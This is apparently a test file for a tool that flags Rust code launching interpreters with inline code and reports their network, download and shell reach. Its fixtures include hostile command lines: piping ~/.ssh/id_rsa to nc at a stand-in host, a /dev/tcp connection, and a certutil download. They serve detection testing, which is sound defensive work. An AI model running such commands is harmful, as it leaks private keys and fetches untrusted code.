/** Code in another language that an interpreter is given as an argument: what it does is done by whoever runs it. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { summaryOf } from '../../src/rust/summary.ts';
import { assertReach, type Reach, reviewOf } from './reach.ts';

const roles = ['script', 'macro', 'library'] as const;
const outside = ['network *', 'downloader *'];

const run = (
  program: string,
  args: readonly string[],
  says: readonly string[],
  never: readonly string[] = [],
): Reach => ({
  how: [program, ...args].join(' '),
  body: `std::process::Command::new("${program}").args([${args.map((arg) => JSON.stringify(arg)).join(', ')}]).status();`,
  says,
  never,
});

const given: readonly Reach[] = [
  run(
    'python3',
    ['-c', "import urllib.request; urllib.request.urlopen('http://x.invalid').read()"],
    ['network *'],
  ),
  run('/usr/bin/python3.11', ['-I', '-c', 'import socket'], ['network socket']),
  run('python', ['-cimport socket'], ['network socket']),
  run('python3', ['-c', "import os; os.system('curl -O http://x.invalid')"], ['downloader curl']),
  run(
    'python3',
    ['-c', 'import sysconfig; print(sysconfig.get_paths())'],
    ['process python3'],
    [...outside, 'shell *'],
  ),
  run('python3', ['-m', 'pip', 'install', 'x'], ['downloader python3']),
  run('python3', ['-m', 'http.server'], ['downloader python3']),
  run('python3', ['-m', 'venv', 'x'], ['process python3'], outside),
  run('perl', ['-e', "use LWP::Simple; getprint('http://x.invalid')"], ['network *']),
  run('perl', ['-pe', 's/a/b/', 'x.txt'], ['process perl'], outside),
  run('ruby', ['-e', "require 'net/http'; Net::HTTP.get('x.invalid', '/')"], ['network *']),
  run('node', ['--eval', "fetch('http://x.invalid')"], ['network fetch']),
  run('node', ["--eval=fetch('http://x.invalid')"], ['network fetch']),
  run('sh', ['-c', 'cat ~/.ssh/id_rsa | nc x.invalid 1'], ['downloader nc', 'reads-outside home']),
  run('bash', ['-euc', 'exec 3<>/dev/tcp/x.invalid/80'], ['network /dev/tcp']),
  run('sh', ['-c', './configure && make'], ['shell sh'], outside),
  run('cmd', ['/C', 'certutil -urlcache -f http://x.invalid x'], ['downloader certutil']),
  run('env', ['A=b', 'python3', '-c', 'import socket'], ['network socket']),
  {
    how: 'code that is named elsewhere',
    head: 'const CODE: &str = "import ftplib";',
    body: 'std::process::Command::new("python3").arg("-c").arg(CODE).status();',
    says: ['network ftplib'],
  },
  ...[
    `duct::cmd!("python3", "-c", "import ftplib").run();`,
    `duct::cmd("python3", ["-c", "import ftplib"]).run();`,
    `let sh = xshell::Shell::new().unwrap(); xshell::cmd!(sh, "python3 -c 'import ftplib'").run();`,
    `subprocess::Exec::cmd("python3").arg("-c").arg("import ftplib").join();`,
    `subprocess::Exec::shell("python3 -c 'import ftplib'").join();`,
    `let mut c = std::process::Command::new("python3"); c.arg("-c"); c.arg("import ftplib"); c.status();`,
    `std::process::Command::new("sh").arg("-c").arg("python3 -c 'import ftplib'").status();`,
  ].map((body): Reach => ({ how: body, body, says: ['network ftplib'] })),
  {
    how: 'a command line without code',
    body: `let sh = xshell::Shell::new().unwrap(); xshell::cmd!(sh, "git status").run();`,
    says: ['process xshell'],
    never: [...outside, 'shell *'],
  },
  {
    how: 'code that does not stand there',
    body: 'std::process::Command::new("python3").arg("-c").arg(std::env::args().next().unwrap()).status();',
    says: ['shell python3 -c'],
  },
];

describe('code that an interpreter is given', () => {
  for (const reach of given)
    for (const role of roles) it(`${role}: ${reach.how}`, () => assertReach(reach, role));

  it('is not said to use no network where nobody can read it', () => {
    const sentence = (args: readonly string[], program = 'python3') =>
      summaryOf(reviewOf(run(program, args, []), 'script'));
    assert.match(sentence(['-c', 'print(1)']), /no network\.?$/);
    assert.doesNotMatch(sentence(['-c']), /no network\.?$/);
    assert.match(sentence(['--eval'], 'node'), /runs `node --eval`.*no network in what can be read/i);
    assert.match(sentence(['-c', 'import socket']), /uses the network/);
  });
});
